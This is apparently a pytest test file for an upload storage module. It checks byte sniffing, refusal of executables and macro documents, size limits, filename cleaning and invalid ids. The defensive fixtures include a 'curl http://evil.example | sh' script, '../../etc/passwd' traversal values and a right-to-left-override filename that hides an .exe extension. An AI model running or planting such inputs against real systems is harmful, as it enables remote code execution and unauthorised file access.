"""File storage: what is kept (sniffed from the bytes, never from the name), how much is read, and
that a failed upload leaves nothing behind."""

from __future__ import annotations

import hashlib
import io
import os
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine.errors import NotFoundError
from engine.files import (
    CHUNK,
    KIND_OF_MIME,
    KINDS,
    FileRefused,
    LocalStorage,
    Storage,
    accepts,
    clean_name,
    sniff,
)
from engine.i18n import t

MIB = 1024 * 1024


# --------------------------------------------------------------------------- sample contents
def office(*parts: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for part in parts:
            archive.writestr(part, "<xml/>")
    return buffer.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(32)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(32)
GIF = b"GIF89a\x01\x00\x01\x00" + bytes(16)
GIF87 = b"GIF87a\x01\x00\x01\x00" + bytes(16)
WEBP = b"RIFF" + (40).to_bytes(4, "little") + b"WEBPVP8 " + bytes(32)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< >>\nendobj\n"
MP4 = (24).to_bytes(4, "big") + b"ftypisom" + bytes(32)
MOV = (20).to_bytes(4, "big") + b"ftypqt  " + bytes(32)
DOCX = office("[Content_Types].xml", "word/document.xml")
XLSX = office("[Content_Types].xml", "xl/workbook.xml")
PPTX = office("[Content_Types].xml", "ppt/presentation.xml")
DOCM = office("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")
PLAIN_ZIP = office("readme.txt", "setup.exe")
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
PE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(52) + b"\x80\x00\x00\x00PE\x00\x00"
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24)
FAT_MACHO = b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(24)
SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"
UTF8_TEXT = "打印机无法连接。\nPrinter offline.\n".encode()
CSV = "工单号,状态\nT-0001,open\n".encode()
GBK_TEXT = "打印机无法连接".encode("gbk")

DOCX_MIME = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX_MIME = "application/vnd.openxmlformats-officedocument.presentationml.presentation"


@pytest.fixture
def storage(tmp_path: Path) -> LocalStorage:
    return LocalStorage(tmp_path / "files")


def files_under(root: Path) -> list[Path]:
    return [Path(dirpath) / name for dirpath, _, names in os.walk(root) for name in names]


# --------------------------------------------------------------------------- round trip
def test_a_stored_file_reads_back_byte_for_byte_with_its_metadata(storage):
    stored = storage.put(io.BytesIO(PNG), "截图.png", limit_bytes=MIB)
    assert (stored.name, stored.size, stored.mime) == ("截图.png", len(PNG), "image/png")
    assert stored.sha256 == hashlib.sha256(PNG).hexdigest()
    with storage.open(stored.id) as f:
        assert f.read() == PNG
    assert storage.exists(stored.id)
    assert storage.info(stored.id) == stored
    assert stored.reference() == {"id": stored.id, "name": "截图.png", "size": len(PNG), "mime": "image/png"}


def test_files_live_under_two_levels_of_folders_named_by_the_id(storage):
    stored = storage.put([PDF], "a.pdf", limit_bytes=MIB)
    path = storage.root / stored.id[:2] / stored.id[2:4] / stored.id
    assert path.read_bytes() == PDF


def test_the_default_storage_lives_in_the_data_folder(tmp_path, monkeypatch):
    monkeypatch.setenv("GONGDAN_HOME", str(tmp_path))
    assert LocalStorage.default().root == tmp_path.resolve() / "files"


def test_local_storage_is_a_storage():
    assert isinstance(LocalStorage("/nonexistent"), Storage)


def test_the_same_bytes_uploaded_twice_are_two_files_deleted_independently(storage):
    first = storage.put([PDF], "a.pdf", MIB)
    second = storage.put([PDF], "b.pdf", MIB)
    assert first.id != second.id and first.sha256 == second.sha256
    assert storage.delete(first.id)
    assert storage.open(second.id).read() == PDF


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.png", "passwd.png"),
        ("C:\\Users\\me\\photo.jpg", "photo.jpg"),
        ("invoice\u202egnp.exe", "invoicegnp.exe"),  # a right-to-left override hides the real extension
        ("line\nbreak.txt", "linebreak.txt"),
        ("", "file"),
        ("x" * 300 + ".pdf", "x" * 251 + ".pdf"),
    ],
)
def test_file_names_are_kept_without_folders_or_control_characters(given, kept):
    assert clean_name(given) == kept


# --------------------------------------------------------------------------- sniffing
SNIFFED = [
    # content, name, mime: the name never decides the kind
    (PNG, "a.png", "image/png"),
    (PNG, "report.pdf", "image/png"),
    (PNG, "noname", "image/png"),
    (JPEG, "a.jpg", "image/jpeg"),
    (GIF, "a.gif", "image/gif"),
    (GIF87, "a.gif", "image/gif"),
    (WEBP, "a.webp", "image/webp"),
    (PDF, "a.pdf", "application/pdf"),
    (PDF, "photo.png", "application/pdf"),
    (DOCX, "a.docx", DOCX_MIME),
    (XLSX, "a.xlsx", XLSX_MIME),
    (PPTX, "a.pptx", PPTX_MIME),
    (DOCX, "a.zip", DOCX_MIME),
    (MP4, "a.mp4", "video/mp4"),
    (UTF8_TEXT, "a.txt", "text/plain"),
    (UTF8_TEXT, "a.png", "text/plain"),
    (CSV, "a.csv", "text/csv"),
    (CSV, "a.log", "text/plain"),
]

REFUSED = [
    # content, name, refusal code
    (ELF, "cat.png", "file.executable"),
    (PE, "cat.png", "file.executable"),
    (PE, "setup.exe", "file.executable"),
    (MACHO, "cat.png", "file.executable"),
    (FAT_MACHO, "cat.jpg", "file.executable"),
    (SCRIPT, "cat.png", "file.executable"),
    (SCRIPT, "notes.txt", "file.executable"),
    (b"MZ", "tiny.png", "file.executable"),
    (DOCM, "a.docx", "file.macros"),
    (PLAIN_ZIP, "a.zip", "file.unsupported_type"),
    (b"PK\x03\x04" + bytes(40), "a.docx", "file.unsupported_type"),  # a broken archive
    (MOV, "a.mp4", "file.unsupported_type"),
    (GBK_TEXT, "a.txt", "file.unsupported_type"),  # text must be UTF-8
    (b"abc\x00def", "a.txt", "file.unsupported_type"),
    (bytes(range(256)), "a.bin", "file.unsupported_type"),
    (b"", "a.txt", "file.empty"),
]


@pytest.mark.parametrize(("content", "name", "mime"), SNIFFED)
def test_the_type_of_a_stored_file_is_sniffed_from_its_content(storage, content, name, mime):
    stored = storage.put(io.BytesIO(content), name, MIB)
    assert stored.mime == mime
    assert stored.name == name  # the name is kept for display, whatever it claims
    assert sniff(content, name).mime == mime


@pytest.mark.parametrize(("content", "name", "code"), REFUSED)
def test_executables_and_unknown_contents_are_refused_whatever_their_name(storage, content, name, code):
    with pytest.raises(FileRefused) as refused:
        storage.put(io.BytesIO(content), name, MIB)
    assert refused.value.code == code
    assert refused.value.http_status in (400, 415)
    assert files_under(storage.root) == []


def test_every_sniffed_kind_has_a_mime_and_extensions():
    assert {"png", "jpeg", "gif", "webp", "pdf", "docx", "xlsx", "pptx", "csv", "text", "mp4"} <= set(KINDS)
    assert all(kind.mime and kind.extensions for kind in KINDS.values())
    assert {KIND_OF_MIME[k.mime].key for k in KINDS.values()} == set(KINDS)


@pytest.mark.parametrize(
    ("mime", "accept", "fits"),
    [
        ("image/png", ["image/*"], True),
        ("application/pdf", ["image/*"], False),
        ("application/pdf", [".pdf"], True),
        ("application/pdf", [".PDF"], True),
        ("image/png", [".pdf"], False),
        ("image/jpeg", [".jpg"], True),
        ("text/plain", [".log", ".txt"], True),
        ("text/csv", [".txt"], False),
        ("application/pdf", ["application/pdf"], True),
        ("video/mp4", ["video/*", ".zip"], True),
        ("image/png", ["*/*"], True),
        ("text/html", ["image/*", ".pdf"], False),
    ],
)
def test_accept_lists_match_the_sniffed_kind(mime, accept, fits):
    assert accepts(mime, accept) is fits


def test_every_refusal_explains_itself_in_chinese_and_english():
    for code in ("file.too_large", "file.empty", "file.executable", "file.macros", "file.unsupported_type"):
        for lang in ("zh", "en"):
            text = t(code, lang, max_mb=1)
            assert text != code and "{" not in text


# --------------------------------------------------------------------------- size limit
def test_a_2_gb_upload_is_refused_after_reading_about_the_limit(storage):
    consumed = 0

    def two_gigabytes() -> Iterator[bytes]:
        nonlocal consumed
        chunk = bytes(CHUNK)
        for i in range(2 * 1024 * MIB // CHUNK):
            data = PNG + chunk[len(PNG) :] if i == 0 else chunk
            consumed += len(data)
            yield data

    with pytest.raises(FileRefused) as refused:
        storage.put(two_gigabytes(), "huge.png", limit_bytes=MIB)
    assert refused.value.code == "file.too_large"
    assert refused.value.http_status == 413
    assert refused.value.params["max_mb"] == 1
    assert MIB < consumed <= MIB + CHUNK
    assert files_under(storage.root) == []


class Endless(io.RawIOBase):
    """A file that never ends (a PNG header, then zeros), counting what was read from it."""

    def __init__(self) -> None:
        self.read_so_far = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        n = len(buffer)
        head = PNG[self.read_so_far : self.read_so_far + n]
        buffer[: len(head)] = head
        buffer[len(head) : n] = bytes(n - len(head))
        self.read_so_far += n
        return n


def test_a_file_stream_is_read_for_at_most_the_limit_plus_one_byte(storage):
    stream = Endless()
    limit = 3 * MIB + 17
    with pytest.raises(FileRefused):
        storage.put(stream, "endless.png", limit_bytes=limit)
    assert stream.read_so_far == limit + 1


def test_a_file_of_exactly_the_limit_is_kept(storage):
    content = PNG + bytes(MIB - len(PNG))
    stored = storage.put(io.BytesIO(content), "exact.png", limit_bytes=MIB)
    assert stored.size == MIB


def test_an_executable_is_refused_without_reading_the_rest_of_it(storage):
    consumed = 0

    def big_elf() -> Iterator[bytes]:
        nonlocal consumed
        for _ in range(10_000):
            consumed += CHUNK
            yield ELF + bytes(CHUNK - len(ELF))

    with pytest.raises(FileRefused, match="Programs and scripts"):
        storage.put(big_elf(), "cat.png", limit_bytes=1024 * MIB)
    assert consumed == CHUNK


# --------------------------------------------------------------------------- atomic writes
def test_a_stream_that_breaks_midway_leaves_no_file_behind(storage):
    def broken() -> Iterator[bytes]:
        yield PNG
        yield bytes(CHUNK)
        raise ConnectionResetError("client went away")

    with pytest.raises(ConnectionResetError):
        storage.put(broken(), "half.png", limit_bytes=MIB)
    assert files_under(storage.root) == []


def test_a_stream_of_text_instead_of_bytes_is_an_error_and_leaves_nothing(storage):
    with pytest.raises(TypeError):
        storage.put(["not bytes"], "a.txt", MIB)  # type: ignore[list-item]
    assert files_under(storage.root) == []


# --------------------------------------------------------------------------- delete and unknown ids
def test_a_deleted_file_is_gone(storage):
    stored = storage.put([PDF], "a.pdf", MIB)
    assert storage.delete(stored.id) is True
    assert not storage.exists(stored.id)
    with pytest.raises(NotFoundError) as missing:
        storage.open(stored.id)
    assert missing.value.code == "file.not_found" and missing.value.http_status == 404
    with pytest.raises(NotFoundError):
        storage.info(stored.id)
    assert storage.delete(stored.id) is False
    assert files_under(storage.root) == []


@pytest.mark.parametrize("bad_id", ["../../etc/passwd", "", "ABCDEF", "0" * 31, "0" * 32 + "/x", None])
def test_ids_that_put_never_made_are_not_found(storage, bad_id):
    assert storage.exists(bad_id) is False
    assert storage.delete(bad_id) is False
    with pytest.raises(NotFoundError):
        storage.open(bad_id)
    with pytest.raises(NotFoundError):
        storage.info(bad_id)
